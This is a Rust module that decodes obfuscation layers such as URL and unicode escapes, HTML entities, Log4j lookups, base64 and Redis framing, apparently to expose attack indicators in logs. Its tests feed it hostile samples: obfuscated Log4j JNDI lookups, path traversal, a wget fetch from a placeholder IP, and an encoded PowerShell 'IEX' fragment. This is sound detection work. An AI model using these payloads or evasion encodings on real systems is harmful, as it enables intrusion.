//! one layer of encoding → the text under it: URL, `\u`, `\x`, HTML entities, Log4j lookups, base64, Redis framing.
//!
//! Deliberately absent: deciding how many layers to peel (`normalize`), and extracting indicators (`extract`).

use std::borrow::Cow;

use base64::Engine as _;
use base64::alphabet;
use base64::engine::DecodePaddingMode;
use base64::engine::general_purpose::{GeneralPurpose, GeneralPurposeConfig};

/// The inside of a lookup longer than this is left as it stands, so that nesting can't cost quadratic time.
const MAX_LOOKUP: usize = 256;
/// Shorter runs decode to something readable by chance too often.
const MIN_BASE64: usize = 16;
const MAX_BASE64: usize = 32 * 1024;
const MAX_SEGMENTS: usize = 16;

/// Attackers omit the padding, and leave stray bits in the last digit.
const LENIENT: GeneralPurpose = GeneralPurpose::new(
    &alphabet::STANDARD,
    GeneralPurposeConfig::new()
        .with_decode_padding_mode(DecodePaddingMode::Indifferent)
        .with_decode_allow_trailing_bits(true),
);

/// Peels one layer of character escapes. Borrowed where there was none.
pub(super) fn escapes(text: &str) -> Cow<'_, str> {
    let bytes = text.as_bytes();
    let Some(first) = memchr::memchr3(b'%', b'\\', b'&', bytes) else {
        return Cow::Borrowed(text);
    };
    let mut out = Vec::with_capacity(bytes.len());
    out.extend_from_slice(&bytes[..first]);
    let mut at = first;
    let mut changed = false;
    while let Some(&byte) = bytes.get(at) {
        let rest = &bytes[at..];
        let escape = match byte {
            b'%' => percent(rest),
            b'\\' => backslash(rest),
            b'&' => entity(rest),
            _ => None,
        };
        match escape {
            Some((Decoded::Byte(byte), used)) => {
                push_byte(&mut out, byte);
                at += used;
                changed = true;
            }
            Some((Decoded::Char(c), used)) => {
                out.extend_from_slice(c.encode_utf8(&mut [0; 4]).as_bytes());
                at += used;
                changed = true;
            }
            None => {
                out.push(byte);
                at += 1;
            }
        }
    }
    if changed { Cow::Owned(String::from_utf8_lossy(&out).into_owned()) } else { Cow::Borrowed(text) }
}

enum Decoded {
    Byte(u8),
    Char(char),
}

/// Overlong UTF-8 (`%c0%ae` for `.`) is an old way past filters: it means its ASCII character.
fn push_byte(out: &mut Vec<u8>, byte: u8) {
    match out.last() {
        Some(&lead @ (0xC0 | 0xC1)) if byte & 0xC0 == 0x80 => {
            out.pop();
            out.push(((lead & 1) << 6) | (byte & 0x3F));
        }
        _ => out.push(byte),
    }
}

fn percent(rest: &[u8]) -> Option<(Decoded, usize)> {
    if matches!(rest.get(1), Some(b'u' | b'U')) {
        return Some((Decoded::Char(hex_char(rest.get(2..6)?)?), 6));
    }
    Some((Decoded::Byte(hex_byte(rest.get(1..3)?)?), 3))
}

fn backslash(rest: &[u8]) -> Option<(Decoded, usize)> {
    match rest.get(1)? {
        b'u' | b'U' => {
            // Java allows any number of `u`.
            let us = rest[1..].iter().take(8).take_while(|&&b| b == b'u' || b == b'U').count();
            Some((Decoded::Char(hex_char(rest.get(1 + us..5 + us)?)?), 5 + us))
        }
        b'x' => Some((Decoded::Byte(hex_byte(rest.get(2..4)?)?), 4)),
        // A line break as logs write it; `\n` alone may be the start of a Windows path's part.
        b'r' if rest.starts_with(br"\r\n") => Some((Decoded::Char('\n'), 4)),
        _ => None,
    }
}

fn entity(rest: &[u8]) -> Option<(Decoded, usize)> {
    let end = rest.iter().take(10).position(|&b| b == b';')?;
    let name = std::str::from_utf8(&rest[1..end]).ok()?;
    let c = match name {
        "lt" => '<',
        "gt" => '>',
        "amp" => '&',
        "quot" => '"',
        "apos" => '\'',
        _ => {
            let number = name.strip_prefix('#')?;
            let code = match number.strip_prefix(['x', 'X']) {
                Some(hex) => u32::from_str_radix(hex, 16).ok()?,
                None => number.parse().ok()?,
            };
            char::from_u32(code)?
        }
    };
    Some((Decoded::Char(c), end + 1))
}

fn hex_byte(digits: &[u8]) -> Option<u8> {
    u8::try_from(hex(digits)?).ok()
}

fn hex_char(digits: &[u8]) -> Option<char> {
    char::from_u32(hex(digits)?)
}

fn hex(digits: &[u8]) -> Option<u32> {
    digits.iter().try_fold(0u32, |n, &digit| Some((n << 4) | char::from(digit).to_digit(16)?))
}

/// Resolves what Log4j (and a shell) would before it looks: `${lower:j}`, `${::-j}`, `${env:X:-j}`, `${IFS}`.
/// Lookups that mean something by themselves (`${jndi:…}`) stay.
pub(super) fn lookups(text: &str) -> Cow<'_, str> {
    if memchr::memmem::find(text.as_bytes(), b"${").is_none() {
        return Cow::Borrowed(text);
    }
    let bytes = text.as_bytes();
    let mut out = Vec::with_capacity(bytes.len());
    let mut open = Vec::new();
    let mut at = 0;
    let mut changed = false;
    while let Some(&byte) = bytes.get(at) {
        at += 1;
        if byte == b'$' && bytes.get(at) == Some(&b'{') {
            open.push(out.len());
            out.extend_from_slice(b"${");
            at += 1;
            continue;
        }
        if byte == b'}'
            && let Some(start) = open.pop()
            && let Some(value) = resolve(&out[start + 2..])
        {
            out.truncate(start);
            out.extend_from_slice(&value);
            changed = true;
            continue;
        }
        out.push(byte);
    }
    if changed { Cow::Owned(String::from_utf8_lossy(&out).into_owned()) } else { Cow::Borrowed(text) }
}

fn resolve(inside: &[u8]) -> Option<Vec<u8>> {
    if inside.len() > MAX_LOOKUP {
        return None;
    }
    if inside.eq_ignore_ascii_case(b"ifs") {
        return Some(b" ".to_vec());
    }
    if let Some(at) = memchr::memmem::find(inside, b":-") {
        return Some(inside[at + 2..].to_vec());
    }
    let colon = memchr::memchr(b':', inside)?;
    let (name, value) = (&inside[..colon], &inside[colon + 1..]);
    if name.eq_ignore_ascii_case(b"lower") || name.eq_ignore_ascii_case(b"upper") {
        return Some(value.to_vec());
    }
    if name.eq_ignore_ascii_case(b"date") {
        return Some(value.iter().copied().filter(|&b| b != b'\'').collect());
    }
    if name.eq_ignore_ascii_case(b"base64") {
        return LENIENT.decode(value).ok();
    }
    None
}

/// Readable texts that stand in base64 (also URL-safe, also of UTF-16), at most `MAX_SEGMENTS`.
pub(super) fn base64_segments(text: &str) -> Vec<String> {
    let mut found = Vec::new();
    let bytes = text.as_bytes();
    let mut at = 0;
    while let Some(window) = bytes.get(at..at + MIN_BASE64)
        && found.len() < MAX_SEGMENTS
    {
        // A run long enough has no other byte in the whole window: the last one says how far to skip.
        if let Some(other) = window.iter().rposition(|&b| !is_base64(b)) {
            at += other + 1;
            continue;
        }
        let run = bytes[at..].iter().take_while(|&&b| is_base64(b)).count();
        found.extend(readable(&bytes[at..at + run.min(MAX_BASE64)]));
        at += run + 1;
    }
    found
}

fn is_base64(byte: u8) -> bool {
    const TABLE: [bool; 256] = {
        let mut table = [false; 256];
        let digits = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/-_";
        let mut at = 0;
        while at < digits.len() {
            table[digits[at] as usize] = true;
            at += 1;
        }
        table
    };
    TABLE[usize::from(byte)]
}

/// A run may begin with the path that the base64 hangs on (`/Command/Base64/<here>`): its tails are tried as well.
fn readable(run: &[u8]) -> Option<String> {
    let tails = memchr::memchr_iter(b'/', run).map(|at| at + 1).take(8);
    std::iter::once(0).chain(tails).filter(|&start| run.len() - start >= MIN_BASE64).find_map(|start| {
        // Words and paths in one case are no base64 of text, and most runs are just that.
        let tail = &run[start..];
        let mixed = tail.iter().any(u8::is_ascii_uppercase) && tail.iter().any(u8::is_ascii_lowercase);
        mixed.then(|| decode(tail)).flatten()
    })
}

fn decode(run: &[u8]) -> Option<String> {
    let standard: Vec<u8> = run
        .iter()
        .map(|&b| match b {
            b'-' => b'+',
            b'_' => b'/',
            other => other,
        })
        .collect();
    // A digit over, left by a cut, would spoil the whole.
    let whole = standard.len() - usize::from(standard.len() % 4 == 1);
    let mut bytes = LENIENT.decode(&standard[..whole]).ok()?;
    bytes.retain(|&b| b != 0);
    let text = String::from_utf8(bytes).ok()?;
    let odd = text.bytes().filter(|&b| !(b.is_ascii_graphic() || b.is_ascii_whitespace())).count();
    (text.len() >= 6 && odd * 20 <= text.len()).then_some(text)
}

/// Drops the lengths between the words of a Redis request (`*3 $3 SET …`).
pub(super) fn redis_framing(text: &str) -> Cow<'_, str> {
    let framed = text.strip_prefix('*').is_some_and(|rest| rest.starts_with(|c: char| c.is_ascii_digit()));
    if !framed || !text.contains('$') {
        return Cow::Borrowed(text);
    }
    let is_length = |line: &str| {
        line.strip_prefix(['*', '$']).is_some_and(|n| !n.is_empty() && n.bytes().all(|b| b.is_ascii_digit()))
    };
    let words: Vec<&str> = text.lines().map(str::trim).filter(|line| !is_length(line)).collect();
    Cow::Owned(words.join(" "))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn one_layer_of_escapes_is_peeled() {
        assert_eq!(escapes("%2e%2e/%u0027"), "../'");
        assert_eq!(escapes(r"\u0024\x7bjndi\uu003a"), "${jndi:");
        assert_eq!(escapes("&lt;a&gt;&#39;&#x24;"), "<a>'$");
        assert_eq!(escapes(".%%32%65/"), ".%2e/");
        assert_eq!(escapes("%c0%ae%c0%af"), "./");
        assert_eq!(escapes("100% of a&b; \\ %zz %u12"), "100% of a&b; \\ %zz %u12");
    }

    #[test]
    fn lookups_are_resolved_from_the_inside() {
        assert_eq!(lookups("${${lower:j}n${::-d}${env:NONE:-i}:ldap}"), "${jndi:ldap}");
        assert_eq!(lookups("wget${IFS}x"), "wget x");
        assert_eq!(lookups("${jndi:ldap://x}"), "${jndi:ldap://x}");
        assert_eq!(lookups("${date:'j'}${"), "j${");
    }

    #[test]
    fn deep_nesting_costs_no_quadratic_time() {
        let deep = "${".repeat(20_000) + &"}".repeat(20_000);
        assert_eq!(lookups(&deep), deep);
    }

    #[test]
    fn base64_is_found_behind_a_path_and_in_utf16() {
        assert_eq!(base64_segments("/Command/Base64/d2dldCBodHRwOi8vMTkyLjAuMi4xL2E="), ["wget http://192.0.2.1/a"]);
        let utf16: Vec<u8> = "IEX (New-Object)".bytes().flat_map(|b| [b, 0]).collect();
        let encoded = base64::engine::general_purpose::STANDARD.encode(utf16);
        assert_eq!(base64_segments(&format!("-enc {encoded}")), ["IEX (New-Object)"]);
        assert!(base64_segments("/vendor/phpunit/phpunit/src/Util/PHP/evalstdin").is_empty());
    }

    #[test]
    fn redis_words_stand_without_their_lengths() {
        assert_eq!(redis_framing("*2\r\n$6\r\nCONFIG\r\n$3\r\nset\r\n"), "CONFIG set");
        assert_eq!(redis_framing("*.html"), "*.html");
    }
}
